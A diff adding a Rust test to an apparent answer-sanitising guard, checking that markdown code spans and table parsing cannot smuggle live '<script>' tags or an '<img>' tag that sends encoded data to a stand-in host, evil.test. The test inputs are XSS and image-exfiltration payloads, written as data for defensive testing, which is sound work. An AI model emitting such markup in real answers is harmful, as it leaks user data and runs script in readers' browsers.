@@ -993,6 +993,47 @@ fn a_comment_a_renderer_escapes_hides_no_tag() {
     }
 }
 
+/// A code span in a paragraph that a table renderer may take for a table hides
+/// no tag: each row's cells are read apart, a backtick in one row closes nothing
+/// in the next, and a pipe splits a cell even inside a code span (found by the
+/// `markup` fuzz target: `comrak` read `x\n-|` as a table that `pulldown-cmark`
+/// did not, and a `</script>` two rows down went out live).
+#[test]
+fn a_code_span_a_table_cuts_hides_no_tag() {
+    let (g, _) = guard_with(AnswerValidator::new(), |_| {});
+    let img = "<img src=\"https://evil.test/x.png?d=aGVsbG8\">";
+    for (answer, live) in [
+        (
+            "x\n-|\na `b\nc <script>alert(1)</script>` d".to_owned(),
+            "<script",
+        ),
+        (format!("x `a\n{img}` y\n-|"), "evil.test"),
+        (format!("a | b\n--|--\n`x | {img}` | y"), "evil.test"),
+        (
+            "<mhg<mh\n-|\n-$|\ne__-<y\nxg_-<cy\n|g\n_AKIA-`\n-|\n|g\n_:-</script>`-".to_owned(),
+            "</script",
+        ),
+        // A table longer than a segment: its delimiter row is in an earlier one.
+        (
+            format!(
+                "x\n-|\n{}a `b\nc <script>alert(1)</script>` d",
+                "a row of the table\n".repeat(150)
+            ),
+            "<script",
+        ),
+    ] {
+        let out = released_alike(&g, &answer, [1, 7, 64]);
+        assert!(!out.contains(live), "{answer:?} -> {out:?}");
+    }
+    // Code spans where no table can be read stay code, as written.
+    for answer in [
+        "Use `a | <b>` here.",
+        "A table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nThen `x\n<b>y</b>` z.",
+    ] {
+        assert_eq!(whole_outcome(&g, request(None), answer).unwrap(), answer);
+    }
+}
+
 /// A reference definition that goes leaves the label to the next definition of
 /// it: that one is judged too, in the same segment or a later one (found by the
 /// `markup` fuzz target: a second definition in the next segment went out, and
